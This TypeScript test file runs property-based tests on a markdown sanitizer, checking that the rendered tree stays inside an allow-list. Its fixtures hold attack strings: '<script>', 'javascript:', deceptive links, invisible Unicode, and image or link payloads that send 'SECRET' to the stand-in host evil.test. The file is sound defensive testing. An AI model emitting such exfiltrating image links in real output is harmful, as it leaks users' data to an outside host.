import {
  defaultPolicy,
  parseMarkdown,
  revealHidden,
  sanitizeTree,
  toSafeTree,
} from '@glovebox/markdown'
import fc from 'fast-check'
import type { Root, RootContent } from 'hast'
import remarkGfm from 'remark-gfm'
import remarkParse from 'remark-parse'
import { unified } from 'unified'
import { describe, expect, it } from 'vitest'

const parts = [
  '[x](https://evil.test/?q=1)',
  '![x](https://evil.test/i)',
  '[r]',
  '![r][r]',
  '\n\n[r]: https://evil.test/\n',
  'https://bank.com',
  'a@b.co',
  '[bank.com](https://evil.test)',
  '<b>',
  '</b>',
  '<details>',
  '</details>',
  '<summary>',
  '</summary>',
  '<script>',
  '<img src=x>',
  '<!-- ',
  ' -->',
  '**',
  '*',
  '_',
  '`',
  '```\n',
  '> ',
  '- ',
  '1. ',
  '| a | b |\n|-|:-:|\n',
  '[^1]',
  '\n\n[^1]: ',
  '\u202e',
  '\u200b',
  '\u{e0041}',
  '👩‍👩‍👧',
  '\ud83d',
  '\n',
  '\n\n',
  ' ',
  'word',
  '# ',
  '- [x] ',
  '~~',
  '&#106;',
  'javascript:',
  '\\',
  '\t',
  '[',
  ']',
  '(',
  ')',
  '<',
  '>',
  '://',
]
const unsafeText = fc
  .array(fc.oneof(fc.constantFrom(...parts), fc.string({ unit: 'binary', maxLength: 6 })), {
    maxLength: 40,
  })
  .map((pieces) => pieces.join(''))

const allowed: Record<string, readonly string[]> = {
  a: [
    'href',
    'rel',
    'referrerPolicy',
    'dataConfirm',
    'target',
    'dataDeceptive',
    'id',
    'dataFootnoteRef',
    'dataFootnoteBackref',
    'ariaDescribedBy',
    'ariaLabel',
  ],
  span: [
    'dataBlocked',
    'dataReason',
    'dataHost',
    'dataUrl',
    'dataMarkedChar',
    'dataMarkedCount',
    'title',
    'dataTrueHost',
  ],
  code: ['dataLanguage'],
  td: ['dataAlign'],
  th: ['dataAlign'],
  ol: ['start'],
  li: ['id', 'dataTask'],
  h2: ['id', 'dataFootnotesLabel'],
  section: ['dataFootnotes'],
  input: ['type', 'disabled', 'checked'],
  ...Object.fromEntries(
    'p h1 h3 h4 h5 h6 blockquote ul pre hr table thead tbody tr em strong del br kbd sub sup mark ins s u small abbr details summary b i'
      .split(' ')
      .map((name) => [name, []]),
  ),
}

/** What lies outside the policy in a tree, in words. */
function outside(node: Root | RootContent): string[] {
  if (node.type === 'text') {
    return revealHidden(node.value).flatMap((one) => ('hidden' in one ? [one.hidden] : []))
  }
  if (node.type === 'root') return node.children.flatMap(outside)
  if (node.type !== 'element') return [node.type]
  const names = allowed[node.tagName]
  if (names === undefined) return [node.tagName]
  const wrong = Object.keys(node.properties).filter((name) => !names.includes(name))
  const href = node.properties['href']
  const isWrong =
    href !== undefined && !/^(?:https?:\/\/|mailto:|tel:|#glovebox-)/.test(String(href))
  return [...wrong, ...(isWrong ? [String(href)] : []), ...node.children.flatMap(outside)]
}

describe('any text', () => {
  it('gives a tree inside the policy', { timeout: 60_000 }, () => {
    fc.assert(
      fc.property(unsafeText, fc.boolean(), (unsafe, streaming) => {
        expect(outside(toSafeTree(unsafe, { streaming }))).toEqual([])
      }),
      { numRuns: 400 },
    )
  })

  it('is the same after a second pass', { timeout: 60_000 }, () => {
    fc.assert(
      fc.property(unsafeText, (unsafe) => {
        const safe = toSafeTree(unsafe)
        expect(sanitizeTree(safe, defaultPolicy)).toEqual(safe)
      }),
      { numRuns: 400 },
    )
  })

  it('is revealed without losing a character', () => {
    fc.assert(
      fc.property(unsafeText, (unsafe) => {
        const text = revealHidden(unsafe)
          .map((one) => ('text' in one ? one.text : String.fromCodePoint(...one.codes)))
          .join('')
        expect(text).toBe(unsafe)
      }),
    )
  })

  it('is read as remark reads it', { timeout: 60_000 }, () => {
    const remark = unified().use(remarkParse).use(remarkGfm)
    fc.assert(
      fc.property(unsafeText, (unsafe) => {
        expect(parseMarkdown(unsafe)).toEqual(remark.parse(unsafe))
      }),
      { numRuns: 200 },
    )
  })
})

describe('any prefix of an attack', () => {
  const attacks = [
    'a ![x](https://evil.test/?q=SECRET "t") b',
    '![x][r] [x][r]\n\n[r]: https://evil.test/?q=SECRET\n\nend',
    '[r]: <https://evil.test/?q=SECRET>\n\n![r]\n\n[![x](https://evil.test/1)](https://evil.test/2)',
    '<img src="https://evil.test/?q=SECRET"> <picture><source srcset=https://evil.test/a></picture>',
    '| a |\n|---|\n| ![x](https://evil.test/?q=SECRET) |\n\n- ![y](//evil.test/b)\n\n> ![z](https://evil.test/c)',
  ]
  it.each(attacks)('of %j fetches nothing', (attack) => {
    const fetched = Array.from({ length: attack.length + 1 }, (_, end) => {
      const tree = toSafeTree(attack.slice(0, end), { streaming: end < attack.length })
      return outside(tree)
    })
    expect(fetched.flat()).toEqual([])
  })
})
